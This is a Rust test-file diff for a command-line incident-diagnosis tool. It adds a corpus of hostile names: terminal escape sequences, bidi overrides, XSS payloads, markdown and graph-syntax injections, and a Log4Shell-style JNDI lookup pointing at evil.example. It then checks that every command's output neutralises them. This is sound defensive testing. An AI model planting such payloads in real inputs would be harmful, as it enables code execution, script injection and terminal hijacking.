@@ -71,7 +71,8 @@ fn folder() -> Scratch {
 fn steers(text: &str) -> bool {
     let hazard = |c: char| {
         c.is_control() && c != '\n'
-            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
+                | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{61c}')
     };
     text.contains(hazard)
 }
@@ -176,4 +177,144 @@ fn markdown(text: &str) {
         }
     }
     assert!(fence.is_none());
+}
+
+/// Texts that steer a terminal, hide, turn, or are markup of some output.
+const CORPUS: [&str; 30] = [
+    "\u{1b}[31mred",
+    "\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}",
+    "\u{1b}]52;c;ZXZpbA==\u{7}",
+    "\u{1b}[2J\u{1b}[H",
+    "\u{9b}31m",
+    "bell\u{7}",
+    "back\u{8}\u{8}space",
+    "carriage\rreturn",
+    "line\nfeed",
+    "tab\there",
+    "nul\u{1}soh",
+    "\u{202e}txet desrever",
+    "\u{2066}isolate\u{2069}",
+    "zero\u{200b}width\u{feff}mark",
+    "soft\u{200d}joiner",
+    "<script>alert(1)</script>",
+    "</title><img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "' style='position:fixed",
+    "&lt;b&gt; &amp;",
+    "javascript:alert(1)",
+    "[click](http://evil.example)",
+    "![pic](http://evil.example/p.png)",
+    "`code` | cell | *bold* _em_",
+    "# heading",
+    "x\"]; evil [label=\"y",
+    "a-->b; click a \"http://evil.example\"",
+    "{\"json\": [1, \"}\"",
+    "${jndi:ldap://evil.example/a}",
+];
+
+/// An incident in which the corpus stands in every place for a name.
+fn corpus() -> Scratch {
+    let mut long = String::from("timestamp,metric,value,service,instance,version\n");
+    for (n, name) in CORPUS.iter().enumerate() {
+        for i in 0..90 {
+            let bad = (45..70).contains(&i) && n % 3 == 0;
+            let t = 1_700_000_000 + i * 10;
+            let (cell, latency) = (csv(name), if bad { 2.0 } else { 0.01 });
+            let _ = writeln!(long, "{t},latency,{latency},{cell},{cell},{cell}");
+        }
+    }
+    let mut events = String::from("timestamp,kind,service,title,version\n");
+    let mut edges = String::from("caller,callee\n");
+    let mut sessions = String::from(
+        "snapshot_at,server,pid,datname,usename,application_name,client_addr,backend_start,xact_start,\
+         query_start,state,wait_event_type,wait_event,backend_type,blocked_by,query\n",
+    );
+    for (n, name) in CORPUS.iter().enumerate() {
+        let (cell, next) = (csv(name), csv(CORPUS[(n + 1) % CORPUS.len()]));
+        let _ = writeln!(events, "2023-11-14T22:2{}:00Z,deploy,{cell},{next},{cell}", n % 10);
+        let _ = writeln!(edges, "{cell},{next}");
+        for i in 0..6 {
+            let by = if n == 0 { "{}" } else { "{100}" };
+            let _ = writeln!(
+                sessions,
+                "2023-11-14 22:2{i}:00+00,{cell},{},{cell},{cell},{cell},{cell},\
+                 2023-11-14 22:00:00+00,2023-11-14 22:19:00+00,2023-11-14 22:19:00+00,active,\
+                 {cell},{cell},client backend,\"{by}\",{}",
+                100 + n,
+                csv(&format!("SELECT \"{}\" /* {name} */", name.replace('"', "\"\"")))
+            );
+        }
+    }
+    let toml = format!("schema = 1\ntitle = {}\n", Value::from(CORPUS.join(" ")));
+    Scratch::with(&[
+        ("metrics.csv", long.as_bytes()),
+        ("events.csv", events.as_bytes()),
+        ("pg_stat_activity.csv", sessions.as_bytes()),
+        ("incident.toml", toml.as_bytes()),
+        ("topology.csv", edges.as_bytes()),
+        ("\u{1b}[31m<b>\u{202e}`|[x](y).csv", b"milk and bread"),
+        ("\u{1b}]8;;x\u{7}/more.csv", b"time,\x1b[2Jcart_cpu\n2023-11-14T22:20:00Z,1\n"),
+    ])
+}
+
+#[test]
+fn a_corpus_of_nasty_names_goes_through_every_command_as_text() {
+    let folder = corpus();
+    let path = folder.arg();
+    let plain: [&[&str]; 20] = [
+        &["diagnose", "-v"],
+        &["diagnose", "-v", "--explain"],
+        &["diagnose", "--ascii"],
+        &["diagnose", "--format", "markdown"],
+        &["diagnose", "--why-not", "H2"],
+        &["inspect", "-v"],
+        &["sessions", "-v"],
+        &["sessions", "--show-literals", "-v"],
+        &["explain", "H1"],
+        &["timeline"],
+        &["graph"],
+        &["graph", "--dot"],
+        &["graph", "--mermaid"],
+        &["report"],
+        &["report", "--template", "rca"],
+        &["diagnose", "--format", "html"],
+        &["report", "--format", "html"],
+        &["diff", &path],
+        &["history", "search"],
+        &["redact", "--check"],
+    ];
+    for args in plain {
+        let run = rootline(&[args, &[path.as_str()]].concat());
+        assert!((0..=2).contains(&run.code) || run.code == 6, "{args:?}: {}", run.err);
+        for shown in [&run.out, &run.err] {
+            let bad = shown.chars().position(|c| steers(&c.to_string()));
+            let near = bad.map(|p| shown.chars().skip(p.saturating_sub(60)).take(120));
+            assert!(bad.is_none(), "{args:?}: {:?}", near.map(String::from_iter));
+        }
+        if args.contains(&"html") {
+            for tag in ["<script", "<img", "<svg/onload", "<b>"] {
+                assert!(!run.out.contains(tag), "{args:?}: {tag}");
+            }
+        }
+        match args {
+            ["graph", "--dot"] => dot_is_whole(&run.out),
+            ["graph", "--mermaid"] => mermaid_is_whole(&run.out),
+            _ => {}
+        }
+    }
+    for args in [
+        &["diagnose", "--format", "json"][..],
+        &["diagnose", "--format", "sarif"],
+        &["diagnose", "--format", "ndjson"],
+        &["timeline", "--format", "json"],
+        &["inspect", "--format", "json"],
+        &["sessions", "--format", "json"],
+    ] {
+        let run = rootline(&[args, &[path.as_str()]].concat());
+        assert_eq!(run.code, 0, "{args:?}: {}", run.err);
+        assert!(!run.out.chars().any(|c| c.is_control() && c != '\n'), "{args:?}");
+        let mut documents = serde_json::Deserializer::from_str(&run.out).into_iter::<Value>();
+        assert!(documents.all(|d| d.is_ok()), "{args:?}");
+    }
 }
